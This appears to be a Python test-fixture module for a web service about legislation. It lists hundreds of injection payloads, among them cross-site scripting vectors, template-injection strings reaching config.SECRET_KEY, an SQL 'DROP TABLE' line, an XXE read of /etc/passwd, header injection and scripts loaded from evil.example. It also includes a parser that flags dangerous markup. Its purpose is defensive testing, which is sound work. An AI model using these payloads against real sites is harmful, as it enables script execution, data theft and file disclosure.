"""Texts an attacker would put where the service copies from: titles, rows, committees, file names, addresses.

``PAYLOADS`` are for every field that is text, ``URLS`` for every field that is an address. Each text payload carries
``MARK`` where it can, so that a test can find it on the page and see what became of it.
"""

from __future__ import annotations

from collections.abc import Sequence
from html.parser import HTMLParser

#: What every script would call: if a browser ever runs it, the browser test hears of it.
MARK = "xss1337"
_CALL = f"{MARK}()"

_EVENTS = [
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend"),
    *("onpointerenter", "ontoggle", "onbegin", "onpageshow", "onhashchange", "onwheel", "oncut", "onpaste"),
    *("onscroll", "onresize", "oninput", "onchange"),
]

_TAGS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<script/src=data:text/javascript,{_CALL}></script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script>{_CALL}//",
    f"<script type=module>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img src=x:x onerror\n=\n{_CALL}>",
    f"<image href=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>'/></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    f"<isindex action=javascript:{_CALL} type=image>",
    f"<link rel=stylesheet href=javascript:{_CALL}>",
    f"<link rel=import href=//evil.example/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<style>@import '//evil.example/{MARK}';</style>",
    f"<style>*{{background:url(//evil.example/{MARK})}}</style>",
    f"<table background=javascript:{_CALL}>",
    f"<div style=background:url(javascript:{_CALL})>",
    f"<p style=animation-name:x onanimationstart={_CALL}>",
    f"<a href=javascript:{_CALL}>click</a>",
    f"<a href='jav&#x09;ascript:{_CALL}'>click</a>",
    f"<a href='&#106;avascript:{_CALL}'>click</a>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={_CALL}>'></xmp>",
    f"<listing>&lt;img src=x onerror={_CALL}&gt;</listing>",
    f"<plaintext><script>{_CALL}</script>",
    f"<dialog open onclose={_CALL}>",
    f"<portal src=javascript:{_CALL}>",
    f"<frameset onload={_CALL}>",
)

_BREAKOUTS = (
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"`><script>{_CALL}</script>",
    f'" autofocus onfocus="{_CALL}',
    f"' autofocus onfocus='{_CALL}",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</blockquote><script>{_CALL}</script>",
    f"</svg><script>{_CALL}</script>",
    f"</option></select><script>{_CALL}</script>",
    f"*/{_CALL}/*",
    f"';{_CALL};//",
    f'";{_CALL};//',
    f"\\';{_CALL};//",
    f"${{{_CALL}}}",
)

_TEMPLATES = (
    f"{{{{ {MARK}.__class__.__mro__ }}}}",
    f"{{{{ config.SECRET_KEY }}}} {MARK}",
    f"{{% for x in ().__class__.__base__.__subclasses__() %}}{MARK}{{% endfor %}}",
    f"{{{{ ''|attr('__class__') }}}} {MARK}",
    f"#{{ {MARK} }}",
    f"<%= {MARK} %>",
    f"%({MARK})s %s {{0}} {{{MARK}}}",
)

_ODD = (
    f"\u202e{MARK}\u202c turned around",
    f"{MARK}\u2028{_CALL}",
    f"\ufeff<script>{_CALL}</script>",
    f"<\u0000script>{_CALL}</script>".replace("\u0000", "\ufffd"),
    f"＜script＞{_CALL}＜/script＞",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_CALL}",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\x1b[31m{MARK}\x07",
    f"{MARK}\r\nContent-Type: text/html\r\n\r\n<script>{_CALL}</script>",
    f"BEGIN:VEVENT\r\nSUMMARY:{MARK}\r\nEND:VEVENT",
    f"{MARK}'; DROP TABLE issues; --",
    f"<!--{MARK}",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f'<?xml-stylesheet href="javascript:{_CALL}"?>',
    f'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;{MARK}',
    f"HB 7132<script>{_CALL}</script> (2025)",
    f'Public Act 25-19"><img src=x onerror={_CALL}>',
    f"the task force<svg onload={_CALL}>",
)

PAYLOADS: Sequence[str] = (
    *_TAGS,
    *(f'" {event}="{_CALL}" x="' for event in _EVENTS),
    *(f"<div {event}={_CALL}>x" for event in _EVENTS),
    *_BREAKOUTS,
    *_TEMPLATES,
    *_ODD,
)

URLS: Sequence[str] = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"  javascript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"javascript&colon;{_CALL}",
    f"javascript://example.org/%0a{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MxMzM3KCk8L3NjcmlwdD4=",
    f"vbscript:{_CALL}",
    f"view-source:javascript:{_CALL}",
    f"blob:https://example.org/{MARK}",
    f"filesystem:https://example.org/{MARK}",
    "file:///etc/passwd",
    f"//evil.example/{MARK}",
    f"\\\\evil.example\\{MARK}",
    f"/\\evil.example/{MARK}",
    f'https://example.org/"><script>{_CALL}</script>',
    f"https://example.org/' onclick='{_CALL}",
    f"https://[{MARK}",
    f"ms-settings:{MARK}",
)

#: What may stand in an address a reader can follow.
_SCHEMES = ("http://", "https://", "mailto:", "/", "#", "data:,")
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc", "background")
#: Elements our templates use; a page with another one has been given it from outside.
_ELEMENTS = frozenset(
    [
        *("html", "head", "meta", "title", "link", "body", "a", "svg", "defs", "symbol", "circle", "path"),
        *("header", "div", "nav", "ul", "li", "main", "section", "h1", "h2", "h3", "p", "b", "i", "span"),
        *("time", "article", "dl", "dt", "dd", "aside", "ol", "blockquote", "details", "summary", "footer"),
        *("text", "use", "label", "textarea", "input", "button", "script", "form", "br", "table", "thead"),
        *("tbody", "tr", "th", "td", "caption", "code", "pre", "small", "strong", "em", "del", "ins"),
        *("fieldset", "legend", "select", "option", "figure", "img", "hr", "kbd", "output", "g", "rect"),
        *("line", "polyline"),
    ]
)


class _Looker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.found.append(f"the element {tag}")
        if tag == "script" and not dict(attrs).get("src", ""):
            self.found.append("a script in the page")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}={value!r}")
            if name in _ADDRESSES and value and not value.startswith(_SCHEMES):
                self.found.append(f"{tag} {name}={value!r}")
            if name in _ADDRESSES and (value or "").startswith(("//", "/\\")):
                self.found.append(f"{tag} {name}={value!r}")
            if name == "http-equiv" and (value or "").lower() == "refresh":
                self.found.append("a meta refresh")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"the comment {data!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"the instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"the declaration {data!r}")


def dangers(page: str) -> list[str]:
    """Everything in a page that could run, load or lead anywhere it should not; empty for a page of ours."""
    looker = _Looker()
    looker.feed(page)
    looker.close()
    return looker.found
